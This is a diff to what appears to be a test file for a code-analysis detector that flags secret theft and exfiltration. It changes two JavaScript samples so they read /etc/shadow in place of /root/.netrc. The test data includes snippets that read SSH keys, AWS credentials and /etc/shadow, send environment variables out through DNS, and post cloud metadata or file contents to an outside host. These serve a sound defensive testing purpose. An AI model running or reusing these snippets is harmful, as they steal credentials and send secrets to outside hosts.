@@ -290,7 +290,7 @@ SECRETS = [
     "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');",
     "const k = fs.readFileSync(`${os.homedir()}/.aws/credentials`).toString('base64');",
     "const k = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa');",
-    "const k = await fs.promises.readFile('/root/.netrc', 'utf8');",
+    "const k = await fs.promises.readFile('/etc/shadow', 'utf8');",
     HOME + "const k = fs.readFileSync(home('~/.ssh/id_rsa'));",
     "let k; fs.readFile('/etc/shadow', (error, data) => { k = data; });",
     "const k = require('child_process').execSync('cat ~/.ssh/id_rsa').toString();",
@@ -508,7 +508,7 @@ def test_values_are_followed_through_patterns(text: str, dialect: Dialect) -> No
             "taint_files_to_network",
         ),
         ("const d = require('dns'); d.lookup(`${JSON.stringify(process.env)}.in.example`)", "taint_env_to_network"),
-        (FILES + "fs.createReadStream('/root/.netrc').pipe(require('https').request(o))", "taint_secret_to_network"),
+        (FILES + "fs.createReadStream('/etc/shadow').pipe(require('https').request(o))", "taint_secret_to_network"),
         (
             "const m = await fetch('http://169.254.169.254/x'); fetch('https://in.example', {body: m})",
             "taint_secret_to_network",
